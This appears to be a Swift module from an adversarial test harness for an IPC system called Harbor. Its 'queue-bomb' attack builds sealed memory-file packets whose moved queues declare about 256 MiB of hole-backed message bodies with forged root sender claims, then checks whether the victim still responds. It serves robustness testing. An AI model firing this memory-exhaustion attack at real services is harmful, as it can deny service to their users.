// harbor-adversary — `queue-bomb`: receive rights whose moved queues hold
// more message bodies than one uid may make a receiver queue (P12), in a
// memory-file packet whose bodies are holes: it costs the adversary a few
// pages, and a receiver that copied the bodies would hold 256 MiB a packet.
import CHarborLinux
import Glibc

enum QueueBomb {
    /// Receive rights in each packet, and messages in each one's queue (the
    /// most a transfer record may declare): 2 × 2,048 bodies of 64 KiB,
    /// 256 MiB, twice what one uid may have a receiver queue in moved rights.
    static let rights = 2
    static let queuedMessages = 2048
    static let bodySize = 64 * 1024

    /// Sends `--count` (default 3) such receive rights, each in its own
    /// memory-file packet, then checks the victim still answers.
    static func attack(_ target: Target, _ options: Options, _ report: Report) {
        var sent = 0
        for _ in 0..<(options.count ?? 3) {
            let ports = (0..<rights).map { _ in (junk: OwnPort(), slots: ownSlotCounter()) }
            let file = bomb()
            let descriptors = [file] + ports.flatMap { [$0.slots, $0.junk.receiving] }
            var header = Packet(flags: Wire.Flag.inMemoryFile | Wire.Flag.counted, id: 0)
            header.declaredDescriptors = descriptors.count
            if target.send(header, descriptors: descriptors) == .sent { sent += 1 }
            close(file)
            for port in ports {
                close(port.slots)
                port.junk.closeAll()
            }
        }
        report.set("bytesEach", rights * queuedMessages * bodySize)
        report.set("sent", sent)
        options.holdOn()
        report.set("servedAfter", Protocol.ping(target).inbound != nil)
    }

    /// A sealed memfd holding the packet: `rights` receive-right entries
    /// (right i: slot counter at index 2i, one connection at 2i + 1), each
    /// with a transfer record queuing `queuedMessages` counted messages with
    /// zero bodies. Only the headers are written; the bodies stay holes.
    private static func bomb() -> CInt {
        let recordSize = 20 + Wire.headerSize + bodySize
        let transferLength = 32 + 8 + queuedMessages * recordSize
        let nestedLength = rights * transferLength
        let entriesEnd = Wire.headerSize + rights * Wire.entrySize
        let total = entriesEnd + nestedLength
        let fd = RawIO.memoryFile(size: total, seals: 0)
        guard fd >= 0 else { Report.fail("memfd of \(total) bytes") }
        // The packet: a counted message moving receive rights, each entry's
        // transfer record its slice of the nested section.
        let entries = (0..<rights).map { right in
            Entry(kind: Wire.EntryKind.receive.rawValue, descriptorCount: 1, first: UInt32(2 * right),
                  identity: Identity.fresh(), nestedOffset: UInt32(right * transferLength),
                  nestedLength: UInt32(transferLength))
        }
        let head = Packet(flags: Wire.Flag.counted | Wire.Flag.transfers, id: Protocol.unknown, entries: entries,
                          declaredDescriptors: 2 * rights, totalOverride: UInt32(total),
                          nestedLengthOverride: UInt32(nestedLength)).encoded
        write(head, to: fd, at: 0)
        // Each queued message: "sent by" pid 1, uid 0 (a claim, as any
        // record's is), a counted packet whose body is a hole.
        let packet = Packet(flags: Wire.Flag.counted, id: 7, totalOverride: UInt32(Wire.headerSize + bodySize),
                            bodyLengthOverride: UInt32(bodySize)).encoded
        let record = Transfer.recordHeader(length: Wire.headerSize + bodySize, pid: 1, uid: 0, gid: 0) + packet
        for right in 0..<rights {
            // Limit 5, one send connection, the queue, no requests.
            let start = entriesEnd + right * transferLength
            let transfer = Transfer(queueLimit: 5, connections: [(1, 2 * right + 1)],
                                    queuedCountOverride: queuedMessages).encoded
            write(transfer, to: fd, at: start)
            for index in 0..<queuedMessages {
                write(record, to: fd, at: start + transfer.count + index * recordSize)
            }
        }
        _ = fcntl(fd, charbor_F_ADD_SEALS,
                  charbor_F_SEAL_WRITE | charbor_F_SEAL_SHRINK | charbor_F_SEAL_GROW | charbor_F_SEAL_SEAL)
        return fd
    }

    private static func write(_ bytes: [UInt8], to fd: CInt, at offset: Int) {
        let written = bytes.withUnsafeBytes { pwrite(fd, $0.baseAddress, $0.count, off_t(offset)) }
        if written != bytes.count { Report.fail("pwrite at \(offset)") }
    }
}
